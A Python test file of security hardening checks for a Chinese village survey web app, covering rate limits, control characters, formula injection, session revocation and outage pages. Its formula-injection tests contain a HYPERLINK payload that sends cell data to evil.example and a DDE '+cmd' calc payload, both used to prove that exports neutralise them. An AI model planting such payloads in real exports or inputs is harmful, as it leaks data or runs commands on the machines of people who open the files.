"""Issue 15 (hardening): each attack or fault the test of the running service found.

Every test here failed on the code before the fix it names.
"""

from __future__ import annotations

import contextlib
import io
import logging
import re
import zipfile

import openpyxl
import pytest
from sqlalchemy import func, select
from sqlalchemy.orm import sessionmaker

from survey_app.models import Response, Village
from tests.conftest import PASSWORD, load_demo
from tests.test_collection import answer, card_of, open_form, poster_of, receipt_in

UNREACHABLE_REDIS = "redis://127.0.0.1:1/0"


@contextlib.contextmanager
def own_app(database_url, tmp_path, **config):
    """An app with its own configuration (rate limits on), inside a rolled-back transaction."""
    from survey_app import create_app
    from survey_app.db import get_db

    settings = {"DATABASE_URL": database_url, "TESTING": True, "SECRET_KEY": "x", "RATELIMIT_ENABLED": True,
                "UPLOAD_FOLDER": str(tmp_path), "WTF_CSRF_ENABLED": False, **config}
    app = create_app(settings)
    database = get_db(app)
    connection = database.engine.connect()
    outer = connection.begin()
    database.sessionmaker = sessionmaker(bind=connection, join_transaction_mode="create_savepoint",
                                         expire_on_commit=False)
    try:
        yield app
    finally:
        outer.rollback()
        connection.close()
        database.engine.dispose()


def _demo(app):
    from survey_app.db import get_db

    session = get_db(app).session()
    unit, published = load_demo(session)
    return session, unit, published


# -- 1: a Redis outage must not stop villagers from answering ---------------------------------------


def test_redis_outage_fails_open_to_memory_limits(database_url, tmp_path, caplog):
    with own_app(database_url, tmp_path, REDIS_URL=UNREACHABLE_REDIS, RATELIMIT_STORAGE_URI=UNREACHABLE_REDIS,
                 RESPOND_LIMIT_DEVICE="2 per minute") as app:
        session, unit, published = _demo(app)
        poster = published[0][1]
        client = app.test_client()
        caplog.set_level(logging.WARNING)
        statuses = []
        for _ in range(3):
            _, token = open_form(client, poster)
            statuses.append(answer(client, poster, token, village=str(unit.villages[0].id)).status_code)
        assert statuses == [200, 200, 429]  # answered, and limited in memory meanwhile
        assert any("memory" in r.getMessage().lower() for r in caplog.records if r.levelno >= logging.WARNING)
        assert client.get("/receipt?code=AAAA-BBBB").status_code == 404


# -- 4: control characters are refused with a Chinese message, answers kept ---------------------------


def test_nul_in_a_comment_is_refused_and_the_answers_kept(client, published, session):
    link = poster_of(published["村办公经费"])
    _, token = open_form(client, link)
    response = answer(client, link, token, aspect_1="否", comment="路灯\x00坏了")
    html = response.get_data(as_text=True)
    assert response.status_code == 422 and "控制字符" in html
    assert 'value="否" checked' in html and "路灯坏了" in html and "\x00" not in html
    assert session.scalar(select(func.count(Response.id))) == 0
    assert receipt_in(answer(client, link, token, aspect_1="否", comment="路灯坏了").get_data(as_text=True))


def test_nul_in_receipt_query_and_login_name(client, users):
    response = client.get("/receipt?code=%00")
    assert response.status_code in (200, 404) and "回执" in response.get_data(as_text=True)
    login = client.post("/auth/login", data={"username": "ad\x00min", "password": PASSWORD})
    assert login.status_code == 200 and "控制字符" in login.get_data(as_text=True)


def test_nul_in_staff_text_fields(client, auth, published, session):
    from survey_app.models import Unit

    auth.login("staff")
    unit = session.scalar(select(Unit))
    page = client.post(f"/units/{unit.id}/villages/new", data={"name": "新\x00村", "population": "10"})
    html = page.get_data(as_text=True)
    assert page.status_code == 200 and "控制字符" in html and "新村" in html
    assert session.scalar(select(Village).where(Village.name.contains("新"))) is None
    q = published["村办公经费"]
    link = poster_of(q)
    _, token = open_form(client, link)
    receipt = receipt_in(answer(client, link, token).get_data(as_text=True))
    bad_receipt = client.post(f"/questionnaires/{q.id}/exclusions", data={"receipt": "\x00", "reason": "重复"},
                              follow_redirects=True)
    assert bad_receipt.status_code == 200
    bad_reason = client.post(f"/questionnaires/{q.id}/exclusions", data={"receipt": receipt, "reason": "重复\x00"},
                             follow_redirects=True)
    assert bad_reason.status_code == 200 and "控制字符" in bad_reason.get_data(as_text=True)
    note = client.post("/audit/head/publish", data={"note": "月底\x00"}, follow_redirects=True)
    assert note.status_code == 200 and "控制字符" in note.get_data(as_text=True)


def _stored_response(session, q, comment):
    from survey_app.services.collection import Answers, new_submission_key, submit

    poster = poster_of(q)
    answers = Answers({"satisfaction": "满意", "identity": "其他", "comment": comment}, "满意", comment, poster.village_id)
    response, _ = submit(session, link=poster, version=q.current_version, answers=answers,
                         submission_key=new_submission_key(), channel="poster")
    session.commit()
    return response


def test_exports_survive_control_characters_already_stored(client, auth, published, session):
    q = published["村办公经费"]
    _stored_response(session, q, "旧数据\x01\x0b里有控制字符")
    auth.login("auditor")
    for fmt in ("xlsx", "csv"):
        response = client.get(f"/audit/export/responses.{fmt}")
        assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(client.get("/audit/export/responses.xlsx").data)).active
    values = [c.value for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    assert "旧数据里有控制字符" in values


# -- 3: formula injection --------------------------------------------------------------------------


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点此")'


def _no_formulas(data: bytes) -> list[str]:
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    return [c.coordinate for ws in workbook for row in ws.iter_rows() for c in row if c.data_type == "f"]


def test_villager_formula_is_inert_in_every_export(client, auth, published, session, tmp_path):
    from analysis.verify import verify_bundle

    q = published["村办公经费"]
    link = poster_of(q)
    _, token = open_form(client, link)
    receipt = receipt_in(answer(client, link, token, comment=FORMULA).get_data(as_text=True))
    assert receipt
    assert session.scalar(select(Response.comment)) == FORMULA  # stored exactly as typed
    auth.login("admin")
    assert _no_formulas(client.get("/audit/export/responses.xlsx").data) == []
    text = client.get("/audit/export/responses.csv").get_data(as_text=True)
    assert "'" + FORMULA.replace('"', '""') in text
    assert not any(cell.startswith(("=", "+", "-", "@")) for line in text.splitlines() for cell in line.split(","))
    client.post(f"/questionnaires/{q.id}/exclusions", data={"receipt": receipt, "reason": "=1+1 重复"})
    data = client.get("/audit/bundle.zip").data
    archive = zipfile.ZipFile(io.BytesIO(data))
    for name in ("responses.csv", "exclusions.csv", "audit_log.csv", "cards.csv"):
        body = archive.read(name).decode("utf-8")
        assert not re.search(r'(^|,)"?[=+@]', body, re.M), name
    path = tmp_path / "bundle.zip"
    path.write_bytes(data)
    assert verify_bundle(str(path)).ok  # the canonical data stays exact: the hashes still match


def test_staff_text_formulas_are_inert(client, auth, published, session):
    from survey_app.services.villages import save_village

    q = published["村办公经费"]
    project = q.indicator.project
    project.goal = "=SUM(A1:A9)"
    project.name = "+cmd|' /C calc'!A0"
    save_village(session, project.unit, actor="t", name="@村", population=5, cadres=1)
    session.commit()
    auth.login("admin")
    assert _no_formulas(client.get(f"/projects/{project.id}/self-evaluation.xlsx").data) == []
    assert _no_formulas(client.get(f"/units/{project.unit_id}/self-evaluation.xlsx").data) == []
    assert client.get(f"/projects/{project.id}/self-evaluation.docx").status_code == 200
    links = zipfile.ZipFile(io.BytesIO(client.get(f"/questionnaires/{q.id}/bundle.zip").data)).read("links.csv")
    assert not re.search(r'(^|,)"?[=+@]', links.decode("utf-8-sig"), re.M)


def test_safe_cell_rules():
    from survey_app.services.cellsafe import safe_cell, unescape_exact

    assert safe_cell("=1+1") == "'=1+1" and safe_cell("@x") == "'@x" and safe_cell("\tx") == "'\tx"
    assert safe_cell("-3.5") == "-3.5" and safe_cell("+12%") == "+12%" and safe_cell(-3) == -3
    assert safe_cell("a\x00b\x01") == "ab" and safe_cell(None) is None
    for value in ("=1", "'=1", "''", "'", "plain", "a\x01b", "-1", "- 1", "@"):
        assert unescape_exact(safe_cell(value, exact=True)) == value


# -- 9: a double tap on a card finds its own receipt first ----------------------------------------


def test_card_double_tap_shows_the_receipt_not_used(client, published, session, monkeypatch):
    import survey_app.respond.views as views
    from survey_app.services import collection

    card = card_of(published["村干部工资"], 3)
    _, token = open_form(client, card)
    receipt = receipt_in(answer(client, card, token).get_data(as_text=True))
    # the second tap read "no response for this form" just before the first one committed
    real_lookup = views.lookup_link

    def before_the_first_commit(*a, **k):  # type: ignore[no-untyped-def]
        found = real_lookup(*a, **k)
        found.stored_id, found.card_used_at = None, None
        return found

    monkeypatch.setattr(views, "lookup_link", before_the_first_commit)
    monkeypatch.setattr(collection, "find_by_key", lambda *a, **k: None)
    again = answer(client, card, token)
    html = again.get_data(as_text=True)
    assert again.status_code == 200 and "此二维码已使用" not in html and receipt_in(html) == receipt
    assert session.scalar(select(func.count(Response.id)).where(Response.card_id == card.id)) == 1


# -- 8: a database outage gives a Chinese 503 that keeps what was typed --------------------------------


DEAD_DATABASE = "postgresql+psycopg://postgres@127.0.0.1:1/gone?connect_timeout=2"


@pytest.fixture
def dead_db_app(tmp_path):
    from survey_app import create_app

    app = create_app({"DATABASE_URL": DEAD_DATABASE, "TESTING": True, "SECRET_KEY": "x", "RATELIMIT_ENABLED": False,
                      "UPLOAD_FOLDER": str(tmp_path), "WTF_CSRF_ENABLED": False})
    yield app


def test_database_outage_on_respondent_paths(dead_db_app):
    client = dead_db_app.test_client()
    page = client.get("/R/ABCDEFGHJKMN")
    html = page.get_data(as_text=True)
    assert page.status_code == 503 and "暂时" in html and "<style>" in html and "/auth/login" not in html
    posted = client.post("/R/ABCDEFGHJKMN/submit", data={"form_token": "tok", "satisfaction": "满意",
                                                         "comment": "路灯<坏了>"})
    html = posted.get_data(as_text=True)
    assert posted.status_code == 503 and "答案" in html
    assert 'action="/R/ABCDEFGHJKMN/submit"' in html and 'value="路灯&lt;坏了&gt;"' in html
    assert 'name="form_token" value="tok"' in html
    assert client.get("/receipt?code=AAAA-BBBB").status_code == 503


def test_database_outage_on_staff_paths(dead_db_app):
    client = dead_db_app.test_client()
    login = client.post("/auth/login", data={"username": "staff", "password": "secret-pass"})
    html = login.get_data(as_text=True)
    assert login.status_code == 503 and "数据库" in html and 'value="staff"' in html
    assert "secret-pass" not in html  # a password is never written back into a page
    with client.session_transaction() as flask_session:
        flask_session["_user_id"] = "1:1"
    page = client.get("/projects")
    assert page.status_code == 503 and "数据库" in page.get_data(as_text=True)


def test_teardown_rollback_failure_is_not_an_english_500(client, published, monkeypatch):
    from sqlalchemy.exc import OperationalError
    from sqlalchemy.orm import Session

    def broken(self):
        raise OperationalError("ROLLBACK", {}, Exception("server closed the connection unexpectedly"))

    monkeypatch.setattr(Session, "close", broken)
    monkeypatch.setattr(Session, "rollback", broken)
    response = client.get("/receipt?code=AAAA-BBBB")
    assert response.status_code == 404


# -- 13: error pages for villagers -----------------------------------------------------------------


def test_respondent_error_pages_use_the_respondent_layout(database_url, tmp_path, monkeypatch):
    import survey_app.respond.views as views

    with own_app(database_url, tmp_path, RESPOND_LIMIT_NETWORK="1 per minute") as app:
        client = app.test_client()
        assert client.get("/R/NOSUCHTOKEN").status_code == 404
        limited = client.get("/R/NOSUCHTOKEN")
        html = limited.get_data(as_text=True)
        assert limited.status_code == 429 and "操作太频繁" in html
        assert "<style>" in html and "/auth/login" not in html and "退出" not in html
        app.config["PROPAGATE_EXCEPTIONS"] = False

        def crash(*args, **kwargs):
            raise RuntimeError("bug")

        monkeypatch.setattr(views, "lookup_link", crash)
        broken = app.test_client().post("/R/ABC/submit", data={"comment": "留言"})
        html = broken.get_data(as_text=True)
        assert broken.status_code == 500 and "服务器出错" in html and "<style>" in html and "/auth/login" not in html


def test_over_long_url_gets_a_chinese_page(client):
    response = client.get("/R/" + "A" * 5000)
    assert response.status_code == 414 and "网址太长" in response.get_data(as_text=True)


# -- 5: login throttle, failures logged, no user enumeration by timing --------------------------------


def _make_users(app):
    from survey_app.db import get_db
    from survey_app.models import Role
    from survey_app.services.accounts import create_user

    session = get_db(app).session()
    for role in Role:
        create_user(session, role.value, PASSWORD, role, actor="test", all_units=True)
    session.commit()
    return session


def test_login_is_throttled_per_account_and_per_address(database_url, tmp_path):
    with own_app(database_url, tmp_path, LOGIN_LIMIT_ACCOUNT="3 per minute",
                 LOGIN_LIMIT_ADDRESS="6 per minute") as app:
        _make_users(app)
        client = app.test_client()
        wrong = [client.post("/auth/login", data={"username": "staff", "password": "wrong-guess"}).status_code
                 for _ in range(3)]
        assert wrong == [200, 200, 200]
        blocked = client.post("/auth/login", data={"username": "staff", "password": PASSWORD})
        assert blocked.status_code == 429 and "登录失败次数太多" in blocked.get_data(as_text=True)
        # another account from the same address still logs in: the account bucket is per account
        assert client.post("/auth/login", data={"username": "admin", "password": PASSWORD}).status_code == 302
        client.post("/auth/logout")
        others = [client.post("/auth/login", data={"username": f"u{n}", "password": "x"}).status_code
                  for n in range(3)]
        assert others == [200, 200, 429]  # 3 failures + 1 refused + 2 failures = 6 from one address


def test_login_failures_are_in_the_audit_log(client, users, session):
    from survey_app.models import AuditEvent

    client.post("/auth/login", data={"username": "staff", "password": "wrong-guess"})
    client.post("/auth/login", data={"username": "nobody", "password": "wrong-guess"})
    events = session.scalars(select(AuditEvent).where(AuditEvent.action == "login_failed")
                             .order_by(AuditEvent.id)).all()
    assert len(events) == 2 and events[0].actor == "staff"
    assert "nobody" not in str(events[1].details) and "wrong-guess" not in str([e.details for e in events])


def test_unknown_user_costs_a_password_hash_too(client, users, monkeypatch):
    import werkzeug.security

    calls = []
    real = werkzeug.security._hash_internal

    def counting(*args, **kwargs):
        calls.append(1)
        return real(*args, **kwargs)

    client.post("/auth/login", data={"username": "someone", "password": "warm-up"})
    monkeypatch.setattr(werkzeug.security, "_hash_internal", counting)
    client.post("/auth/login", data={"username": "staff", "password": "wrong-guess"})
    known = len(calls)
    client.post("/auth/login", data={"username": "nobody-here", "password": "wrong-guess"})
    assert known == 1 and len(calls) - known == 1


# -- 6: sessions can be revoked and expire ------------------------------------------------------------


def _copy_of(app, client):
    thief = app.test_client()
    thief.set_cookie("session", client.get_cookie("session").value)
    return thief


def test_copied_session_cookie_dies_at_logout(app, client, auth):
    auth.login("staff")
    thief = _copy_of(app, client)
    assert thief.get("/projects").status_code == 200
    auth.logout()
    assert thief.get("/projects").status_code == 302


@pytest.mark.parametrize("change", [{"password": "a brand new password"}, {"active": ""}, {"role": "auditor"}])
def test_admin_changes_end_the_users_sessions(app, client, users, change):
    staff = app.test_client()
    staff.post("/auth/login", data={"username": "staff", "password": PASSWORD})
    assert staff.get("/projects").status_code == 200
    client.post("/auth/login", data={"username": "admin", "password": PASSWORD})
    prefix = f"u{users['staff'].id}-"
    data = {prefix + "role": "staff", prefix + "active": "y"}
    data.update({prefix + k: v for k, v in change.items()})
    if change.get("active") == "":
        del data[prefix + "active"]
    assert client.post(f"/users/{users['staff'].id}", data=data).status_code == 302
    assert staff.get("/projects").status_code == 302
    assert client.get("/projects").status_code == 200  # the admin's own session is untouched


def test_end_sessions_service(session, users):
    from survey_app.services.accounts import end_sessions

    before = users["staff"].session_version
    end_sessions(users["staff"])
    assert users["staff"].session_version == before + 1


@pytest.mark.parametrize("key", ["seen_at", "login_at"])
def test_idle_and_absolute_lifetimes(app, client, auth, key):
    import time

    auth.login("staff")
    assert client.get("/projects").status_code == 200
    with client.session_transaction() as flask_session:
        limit = app.config["SESSION_IDLE_SECONDS" if key == "seen_at" else "SESSION_ABSOLUTE_SECONDS"]
        flask_session[key] = time.time() - limit - 5
    expired = client.get("/projects")
    assert expired.status_code == 302 and "/auth/login" in expired.headers["Location"]


# -- 10: hardening settings ----------------------------------------------------------------------------


def test_secure_cookies_and_hsts_follow_an_https_public_url(database_url, tmp_path):
    with own_app(database_url, tmp_path, PUBLIC_URL="https://survey.example") as app:
        assert app.config["SESSION_COOKIE_SECURE"] is True
        response = app.test_client().get("/auth/login")
        assert response.headers["Strict-Transport-Security"].startswith("max-age=")
    with own_app(database_url, tmp_path, PUBLIC_URL="http://127.0.0.1:5000") as app:
        assert not app.config["SESSION_COOKIE_SECURE"]
        assert "Strict-Transport-Security" not in app.test_client().get("/auth/login").headers


def test_staff_pages_and_exports_are_not_stored(client, auth, published):
    q = published["村办公经费"]
    auth.login("admin")
    for url in ("/projects", f"/questionnaires/{q.id}/print/cards", "/audit/export/responses.csv",
                "/audit/bundle.zip", f"/projects/{q.indicator.project_id}/self-evaluation.xlsx", "/auth/login"):
        response = client.get(url)
        assert response.status_code in (200, 302), url
        assert "no-store" in response.headers.get("Cache-Control", ""), url


def test_csrf_token_rotates_at_login(database_url, tmp_path):
    with own_app(database_url, tmp_path, WTF_CSRF_ENABLED=True, RATELIMIT_ENABLED=False) as app:
        _make_users(app)
        client = app.test_client()
        html = client.get("/auth/login").get_data(as_text=True)
        token = re.search(r'name="csrf_token" type="hidden" value="([^"]+)"', html).group(1)
        with client.session_transaction() as flask_session:
            before = flask_session["csrf_token"]
        assert client.post("/auth/login", data={"username": "staff", "password": PASSWORD,
                                                "csrf_token": token}).status_code == 302
        with client.session_transaction() as flask_session:
            assert flask_session.get("csrf_token") != before


# -- 7: the device limit rests on a signed cookie, not on the User-Agent ------------------------------


def _submit(client, link, village, agent):
    _, token = open_form(client, link)
    return client.post(f"/R/{link.token}/submit", headers={"User-Agent": agent},
                       data={"form_token": token, "satisfaction": "满意", "identity": "其他", "village": village})


def test_rotating_the_user_agent_gains_nothing(database_url, tmp_path):
    with own_app(database_url, tmp_path, RESPOND_LIMIT_DEVICE="2 per minute",
                 RESPOND_LIMIT_NO_COOKIE="2 per minute") as app:
        session, unit, published = _demo(app)
        poster, village = published[0][1], str(unit.villages[0].id)
        phone = app.test_client()
        assert [_submit(phone, poster, village, f"agent {n}").status_code for n in range(3)] == [200, 200, 429]
        cookieless = app.test_client(use_cookies=False)
        assert [_submit(cookieless, poster, village, f"bot {n}").status_code for n in range(3)] == [200, 200, 429]
        neighbour = app.test_client()  # another phone on the same village network, with its own cookie
        assert _submit(neighbour, poster, village, "agent 0").status_code == 200
        _, token = open_form(cookieless, poster)
        forged = cookieless.post(f"/R/{poster.token}/submit", headers={"Cookie": "survey_device=made-up-value"},
                                 data={"form_token": token, "satisfaction": "满意", "identity": "其他",
                                       "village": village})
        assert forged.status_code == 429  # a forged cookie is no cookie: the shared bucket


def test_startup_warns_about_per_worker_memory_limits(database_url, tmp_path, monkeypatch, caplog):
    monkeypatch.setenv("WEB_CONCURRENCY", "4")
    caplog.set_level(logging.WARNING)
    with own_app(database_url, tmp_path, RATELIMIT_STORAGE_URI="memory://"):
        pass
    assert any("SURVEY_REDIS_URL" in r.getMessage() for r in caplog.records)
    caplog.clear()
    monkeypatch.setenv("WEB_CONCURRENCY", "1")
    with own_app(database_url, tmp_path, RATELIMIT_STORAGE_URI="memory://"):
        pass
    assert not any("SURVEY_REDIS_URL" in r.getMessage() for r in caplog.records)


def test_proxy_hops_give_the_phones_address(database_url, tmp_path):
    from flask import request

    with own_app(database_url, tmp_path, PROXY_HOPS=1) as app:
        @app.route("/_addr")
        def _addr():  # type: ignore[no-untyped-def]
            return request.remote_addr or ""

        seen = app.test_client().get("/_addr", headers={"X-Forwarded-For": "10.1.2.3"}).get_data(as_text=True)
        assert seen == "10.1.2.3"


def test_respondent_pages_do_not_vary_on_cookies(client, published):
    response = client.get(f"/R/{poster_of(published['村办公经费']).token}")
    assert "Cookie" not in response.headers.get("Vary", "") and "survey_device=" in response.headers["Set-Cookie"]


def test_error_page_during_an_outage_is_still_chinese(dead_db_app):
    client = dead_db_app.test_client()
    with client.session_transaction() as flask_session:
        flask_session["_user_id"] = "1:1"
        flask_session["login_at"] = flask_session["seen_at"] = __import__("time").time()
    missing = client.get("/no-such-page")
    assert missing.status_code == 404 and "页面不存在" in missing.get_data(as_text=True)


def test_admin_changing_own_password_stays_logged_in_elsewhere_not(app, client, users):
    client.post("/auth/login", data={"username": "admin", "password": PASSWORD})
    other_device = _copy_of(app, client)
    prefix = f"u{users['admin'].id}-"
    response = client.post(f"/users/{users['admin'].id}", data={prefix + "role": "admin", prefix + "active": "y",
                                                              prefix + "password": "a brand new password"})
    assert response.status_code == 302
    assert client.get("/projects").status_code == 200
    assert other_device.get("/projects").status_code == 302
